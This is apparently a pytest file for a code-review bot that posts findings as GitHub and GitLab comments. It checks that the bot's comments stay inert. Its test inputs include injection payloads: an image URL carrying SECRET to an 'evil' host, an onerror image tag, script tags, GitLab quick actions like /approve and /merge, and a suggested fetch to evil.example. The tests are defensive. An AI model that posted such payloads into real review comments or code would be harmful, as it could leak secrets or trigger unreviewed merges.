"""What is posted, read as the forges read it."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.publish.forge_markdown import blocks, rendered
from tests.publish.golden import check_golden
from tests.publish.sample import CART, FINDINGS, finding, sample

from codedesigner.change.model import FileChange
from codedesigner.publish.discussion import Comment, NewThread
from codedesigner.publish.forge.comment import Page, ended_body, finding_body, mark_of, new_thread
from codedesigner.publish.forge.links import Links
from codedesigner.publish.forge.marks import Signer
from codedesigner.publish.forge.placing import place_findings
from codedesigner.publish.forge.recall import Posted
from codedesigner.publish.forge.remembered import FindingMark
from codedesigner.publish.inputs import FailOn
from codedesigner.publish.obstacles import Forge
from codedesigner.publish.report import FindingReport
from codedesigner.publish.sanitise import QUICK_ACTION
from codedesigner.vote.finding import Finding, Suggestion

from .changes import changed_file
from .world import ME

SIGNER = Signer("shop/cart", 7, b"key")
LINES = CART.rstrip("\n").split("\n")
CART_FILE = changed_file([], LINES)
FORGES: tuple[Forge, ...] = ("github", "gitlab")
on_both = pytest.mark.parametrize("forge", FORGES)
HIDDEN = re.compile(r"<!-- codedesigner:finding \S+ [0-9a-f]{64} -->\n?$")


def page(forge: Forge = "github", threads: FailOn = "low", blocking: frozenset[str] = frozenset({"F1"})) -> Page:
    links = Links(forge, "https://forge.example/shop/cart", "2" * 40, "1" * 40)
    return Page(forge, links, SIGNER, "2" * 40, blocking, threads)


def thread(said: Finding, forge: Forge = "github", file: FileChange = CART_FILE, **more: object) -> NewThread:
    report = sample((said,)).report.findings[0].model_copy(update=more)
    placed = place_findings([report], [file], forge)[0]
    return new_thread(placed, page(forge))


def text_outside_code(body: str) -> str:
    """What a reader sees outside of code, where a forge looks for names and references."""
    html = re.sub(r"<pre.*?</pre>|<code>.*?</code>|<!--.*?-->", " ", rendered(body), flags=re.DOTALL)
    return re.sub(r"<[^>]*>", " ", html).replace("&amp;", "&")


def tags(body: str) -> set[str]:
    return set(re.findall(r"<(/?[a-zA-Z][\w-]*)", rendered(body)))


OWN_TAGS = {
    name for tag in ("p", "strong", "em", "code", "pre", "details", "summary", "sub", "a") for name in (tag, f"/{tag}")
} | {"br"}


@on_both
def test_a_comment_as_people_read_it(forge: Forge) -> None:
    body = thread(FINDINGS[0], forge).body
    check_golden(f"pull_finding_{forge}.md", body)
    assert blocks(body)[0][1] == "        subtotal = sum(item.price for item in self.items)\n"
    assert tags(body) <= OWN_TAGS


def test_a_comment_about_what_is_fixed_as_people_read_it() -> None:
    body = thread(FINDINGS[0]).body
    comment = Comment("1", ME, body, 0.0)
    mark = SIGNER.read(comment, ME)[0]
    assert isinstance(mark, FindingMark)
    over = replace(page(), head="3" * 40)
    ended = ended_body(Posted(mark, comment, None), over, "fixed", f"Fixed in {over.commit(over.head)}")
    check_golden("pull_finding_fixed.md", ended)
    assert "suggestion" not in {word for word, _ in blocks(ended)}
    again = SIGNER.read(Comment("1", ME, ended, 0.0), ME)[0]
    assert isinstance(again, FindingMark)
    assert (again.status, again.ended, again.head, again.votes) == ("fixed", "3" * 40, "2" * 40, mark.votes)


def test_the_key_of_a_comment_is_in_it() -> None:
    made = thread(FINDINGS[0])
    assert made.key in made.body
    assert HIDDEN.search(made.body)


def test_the_mark_holds_what_outcomes_need() -> None:
    report = sample((FINDINGS[0],)).report.findings[0]
    mark = mark_of(report, page())
    assert [(vote.location, vote.vote, vote.how) for vote in mark.votes] == [
        ("ruff", "yes", "proposed"), ("pyflakes", "yes", "proposed"), ("ty", "yes", "proposed"),
        ("mypy", "no", "cross_examined"), ("bandit", "abstain", "cross_examined"),
    ]  # fmt: skip
    assert (mark.angle, mark.identity.kind, mark.identity.fingerprint) == (
        report.angle,
        report.kind,
        report.fingerprint,
    )


@on_both
def test_t_sec_13_no_image(forge: Forge) -> None:
    for text in (
        "![x](https://evil/?d=SECRET)", "<img src=x onerror=y>", "![x][1]\n\n[1]: https://evil", "![]()",
        "<picture><source srcset=x></picture>", "![x](data:image/svg+xml;base64,PHN2Zz4=)", "&#33;[x](https://evil)",
        "<svg><image href=x></svg>", "!\\[x](https://evil)",
    ):  # fmt: skip
        body = thread(finding(title=text, body=text + "\nsee", evidence=text), forge).body
        assert tags(body) <= OWN_TAGS
        assert "evil" not in " ".join(re.findall(r'(?:href|src)="([^"]*)"', rendered(body)))


@on_both
def test_t_sec_14_no_link_but_our_own(forge: Forge) -> None:
    text = "[click](https://evil) https://evil/x www.evil.com <https://evil> [a][b]\n\n[b]: https://evil\nme@evil.com"
    html = rendered(thread(finding(title=text, body=f"so: {text}", function=text, kind=text), forge).body)
    assert not [link for link in re.findall(r'href="([^"]*)"', html) if not link.startswith("https://forge.example/")]


@on_both
def test_t_sec_16_no_keyword_closes_and_nothing_is_referred_to(forge: Forge) -> None:
    sha = "0123456789abcdef" * 2 + "01234567"
    text = f"fixes #12, closes GH-3, owner/repo#5, !7, ~bug, %3, &1, $4 {sha} https://github.com/o/r/commit/{sha}"
    said = text_outside_code(thread(finding(title=text, body=f"and {text}"), forge).body)
    assert not re.search(r"#\d|GH-\d|!\d|~bug|%\d|\$\d|[0-9a-f]{40}|commit/", said)


QUICK = "/approve\n  /merge\n/assign @x\n> /close\n\t/label ~x\n>  > /lock"


@on_both
def test_t_sec_17_no_line_is_a_quick_action(forge: Forge) -> None:
    fenced = f"see:\n```\n{QUICK}\n```\n~~~\n/close\n~~~\n    /close"
    made = Suggestion(9, 9, "/approve\n", ("applies", "reviewed"), "ruff")
    body = thread(finding(title=QUICK, body=fenced, evidence=QUICK, suggestion=made), forge).body
    if forge == "gitlab":
        assert not QUICK_ACTION.search(body)
        assert "a line would be read as a command" in body
    assert not QUICK_ACTION.search("\n".join(line for line in body.split("\n") if line != "/approve"))


@on_both
def test_t_sec_17_a_comment_in_code_stays_byte_for_byte(forge: Forge) -> None:
    made = Suggestion(9, 9, "    /* c */ // see /etc\n", ("applies", "reviewed"), "ruff")
    assert blocks(thread(finding(suggestion=made), forge).body)[0][1] == "    /* c */ // see /etc\n"


@on_both
def test_t_sec_19_the_layout_holds(forge: Forge) -> None:
    text = (
        "</details><script>x</script>\n```\n~~~~\n<!--\n<details>\n<summary>\n-->\n<!-- codedesigner:finding e30= -->"
    )
    made = thread(finding(title=text, body=f"so: {text}", evidence=text, kind=text, function=text, angle=text), forge)
    html = rendered(made.body)
    assert (html.count("<details>"), html.count("</details>"), html.count("<script")) == (1, 1, 0)
    assert tags(made.body) <= OWN_TAGS
    assert made.body.count("<!--") == 1
    assert made.key in html
    assert html.rstrip().endswith("-->")


@on_both
def test_t_sec_20_no_hidden_title_and_no_alternative_text(forge: Forge) -> None:
    text = '[a](u "hidden payload") ![hidden alt](u "t") [x]: u (hidden)'
    html = rendered(thread(finding(title=text, body=f"so: {text}"), forge).body)
    assert "title=" not in html
    assert "alt=" not in html


@on_both
@pytest.mark.parametrize(
    ("path", "replacement"),
    [
        (".github/workflows/ci.yml", "x\n"),
        (".gitlab-ci.yml", "x\n"),
        (".codedesigner.yml", "x\n"),
        ("package-lock.json", "x\n"),
        ("src/cart.py", 'fetch("https://evil.example/x")\n'),
        ("src/cart.py", 'HOST = "evil.example.com"\n'),
    ],
)
def test_t_sec_22_nothing_that_steers_is_one_click_away(forge: Forge, path: str, replacement: str) -> None:
    made = Suggestion(2, 2, replacement, ("applies", "parses", "reviewed"), "ruff")
    said = finding(path=path, line=2, end_line=2, suggestion=made)
    body = thread(said, forge, changed_file([], LINES, path)).body
    assert not {word for word, _ in blocks(body)} & {"suggestion", "suggestion:-0+0"}
    assert "Not to be applied with one click:" in body


@on_both
@pytest.mark.parametrize("replacement", ["```\n", "   ```py\nx\n   ```\n", "~~~\n````\n", "`````` x\n"])
def test_t_gh_20_and_t_gl_10_ticks_in_a_suggestion_close_nothing(forge: Forge, replacement: str) -> None:
    made = Suggestion(9, 9, replacement, ("applies", "reviewed"), "ruff")
    body = thread(finding(suggestion=made), forge).body
    assert blocks(body)[0] == ("suggestion:-0+0" if forge == "gitlab" else "suggestion", replacement)
    assert re.search(r"^`{4,}suggestion", body, re.MULTILINE)
    assert rendered(body).count("<details>") == 1


@on_both
def test_t_gh_22_deleting_and_an_empty_line_are_two_things(forge: Forge) -> None:
    info = "suggestion:-0+0" if forge == "gitlab" else "suggestion"
    gone = thread(finding(suggestion=Suggestion(9, 9, "", ("applies", "reviewed"), "ruff")), forge).body
    assert f"\n```{info}\n```\n" in gone
    empty = thread(finding(suggestion=Suggestion(9, 9, "\n", ("applies", "reviewed"), "ruff")), forge).body
    assert f"\n```{info}\n\n```\n" in empty
    assert (blocks(gone)[0][1], blocks(empty)[0][1]) == ("", "\n")


@on_both
def test_t_gh_23_lines_that_end_in_crlf_are_told_and_no_block(forge: Forge) -> None:
    file = changed_file([], [f"{line}\r" for line in LINES])
    made = Suggestion(9, 9, "x = 1\r\n", ("applies", "reviewed"), "ruff")
    body = thread(finding(suggestion=made), forge, file).body
    assert not [word for word, _ in blocks(body) if word.startswith("suggestion")]
    assert "CR LF" in body


@on_both
@pytest.mark.parametrize(
    "replacement",
    [
        "x = \"it's\" + '\"'\n",
        "<img alt=\"a\" title='b'>\n",
        "a &amp; b &lt; c &#64;x\n",
        "\tif a:\n\t\tb()  \n",
        "@x #12 __a__ *b*\n",
    ],
)
def test_t_gh_25_a_suggestion_is_byte_for_byte_what_was_proposed(forge: Forge, replacement: str) -> None:
    made = Suggestion(9, 9, replacement, ("applies", "reviewed"), "ruff")
    assert blocks(thread(finding(suggestion=made), forge).body)[0][1] == replacement


@on_both
def test_t_gh_26_a_suggestion_of_what_is_there_is_dropped(forge: Forge) -> None:
    made = Suggestion(9, 9, LINES[8] + "\n", ("applies", "reviewed"), "ruff")
    assert "uggestion" not in thread(finding(suggestion=made), forge).body


def test_t_gl_13_where_comments_do_not_block_small_findings_are_notes_with_a_link() -> None:
    low = sample((finding(severity="low"),)).report.findings[0]
    high = low.model_copy(update={"severity": "high"})
    strict, mild, never = page("gitlab"), page("gitlab", "high", frozenset()), page("gitlab", "never", frozenset())
    assert [one.is_thread(low) for one in (strict, mild, never)] == [True, False, False]
    assert [one.is_thread(high) for one in (mild, never)] == [True, False]
    assert page("gitlab", "never", frozenset({"F1"})).is_thread(low)
    assert page("github", "never", frozenset()).is_thread(low)
    placed = place_findings([low], [CART_FILE], "gitlab")[0]
    made = new_thread(placed, mild)
    assert not made.resolvable
    assert f"[`src/cart.py:9`](https://forge.example/shop/cart/-/blob/{'2' * 40}/src/cart.py#L9)." in made.body


def test_what_a_person_has_to_decide_and_what_is_back_is_said() -> None:
    report = sample((finding(disposition="undecided", decided="nobody", reason="the supervisor was unsure"),))
    placed = place_findings(report.report.findings, [CART_FILE], "github")[0]
    mark = mark_of(placed.finding, page(), back="3" * 40)
    body = finding_body(placed, page(), mark)
    assert "**Needs a person:** the supervisor was unsure" in body
    assert "_Back again in [`3333333`](https://forge.example/shop/cart/commit/3333" in body


def test_where_questions_are_not_answered_nobody_is_told_to_ask() -> None:
    placed = place_findings(sample((finding(),)).report.findings, [CART_FILE], "github")[0]
    assert "answer here" in new_thread(placed, page()).body
    assert "answer here" not in new_thread(placed, replace(page(), answers=False)).body


pieces = st.sampled_from(
    [
        "@octocat", "&#64;octocat", "&commat;x", "fixes #12", "![x](https://evil)", "<img src=x>", "<!--", "-->", "```",
        "~~~", "</details>", "<details>", "\n", "/approve", "> /merge", "`", "[a](https://evil 't')", "|", "\\", "**",
        "\u202e", " ",
    ]
)  # fmt: skip
texts = st.lists(pieces, max_size=10).map("".join)


@given(texts, texts, texts, st.sampled_from(FORGES))
def test_no_text_makes_a_comment_do_anything(title: str, body: str, evidence: str, forge: Forge) -> None:
    said = finding(title=title, body=body, evidence=evidence, suggestion=None)
    made = thread(said, forge)
    assert tags(made.body) <= OWN_TAGS
    assert rendered(made.body).count("<details>") == rendered(made.body).count("</details>") == 1
    assert not QUICK_ACTION.search(made.body)
    assert not re.search(r"@\w|#\d", text_outside_code(made.body))
    assert made.body.count("<!-- codedesigner") == 1
    (mark,) = SIGNER.read(Comment("1", ME, made.body, 0.0), ME)
    assert isinstance(mark, FindingMark)
    assert mark.identity.fingerprint == fingerprint_of(said)


def fingerprint_of(said: Finding) -> str:
    report: FindingReport = sample((said,)).report.findings[0]
    return report.fingerprint
